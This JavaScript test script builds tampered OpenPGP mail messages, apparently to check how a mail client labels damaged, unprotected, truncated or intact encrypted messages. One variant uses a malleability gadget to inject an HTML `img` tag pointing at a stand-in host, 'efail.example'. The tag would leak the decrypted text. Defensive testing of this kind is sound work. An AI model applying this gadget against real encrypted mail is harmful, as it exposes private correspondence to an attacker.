/** Changed messages to one certificate, for tests in a browser: certificate as base64 in, names, what is said, and mail out. */
import { randomBytes } from "node:crypto";
import { gadget, joined, literal, mail, packet, sealedOld, sealedV1, sealedV2, SED, SEIPD, sessionKey, whole } from "./tampered.mjs";
import { closedAround } from "./wraps.mjs";

const KEY = new Uint8Array(randomBytes(32));
const LETTER = `Content-Type: text/html; charset=utf-8; hp="cipher"\r\nSubject: walnut inside\r\nFrom: alice@example.test\r\n\r\n${"<p>walnut of the walnuts</p>\r\n".repeat(20)}`;

let given = "";
for await (const piece of process.stdin) given += piece;
const certificate = new Uint8Array(Buffer.from(given, "base64"));
const [forV1, forV2] = await Promise.all([sessionKey(certificate, KEY), sessionKey(certificate, KEY, 2)]);

const sealed = sealedV1(KEY, literal(LETTER));
const known = new TextEncoder().encode(LETTER.slice(2, 18));
const put = gadget(sealed.subarray(1), 32, known, ["<img ignore='...", "' src=http://efa", "il.example/?....", "'><!-- ........."]);
const chunks = sealedV2(KEY, literal(LETTER), "gcm", 2);
const v1 = (/** @type {Uint8Array} */ body, tag = SEIPD) => joined(forV1, packet(tag, body));

/** @type {[string, string, Uint8Array][]} */
const messages = [
  ["text put in", "enc-damaged", mail(v1(joined([1], put)))],
  ["text put in, its check cut off", "enc-damaged", mail(v1(joined([1], put.subarray(0, -22))))],
  ["text put in, as a packet without check", "enc-no-integrity", mail(v1(put, SED))],
  ["made without any check", "enc-no-integrity", mail(v1(sealedOld(KEY, literal(LETTER)), SED))],
  ["a chunk left out", "enc-damaged", mail(joined(forV2, packet(SEIPD, whole({ ...chunks, chunks: chunks.chunks.slice(1) }))))],
  ["cut off, in the old form", "enc-failed", mail(v1(sealed).subarray(0, -100), "inline")],
  ...closedAround(v1(sealed)).filter((_, at) => at % 4 === 0).map(([name, raw]) => /** @type {[string, string, Uint8Array]} */ ([name, "enc-none", raw])),
  // Last, because the list keeps the subject of what was opened.
  ["unchanged", "enc-ok", mail(v1(sealed))],
];
process.stdout.write(JSON.stringify(messages.map(([name, enc, raw]) => ({ name, enc, mail: Buffer.from(raw).toString("base64") }))));
